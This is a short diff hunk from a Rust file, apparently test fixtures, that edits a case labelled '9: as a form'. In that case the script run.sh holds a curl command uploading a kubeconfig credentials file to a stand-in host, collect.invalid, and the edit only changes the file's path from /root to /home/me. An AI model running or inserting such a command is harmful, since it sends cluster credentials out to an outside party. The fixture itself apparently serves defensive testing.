@@ -180,7 +180,7 @@ const PUBLISHED: &[(&str, Files<'_>)] = &[
         "9: as a form",
         &[(
             "run.sh",
-            "curl -F 'file=@/root/.kube/config' https://collect.invalid/\n",
+            "curl -F 'file=@/home/me/.kube/config' https://collect.invalid/\n",
         )],
     ),
     (
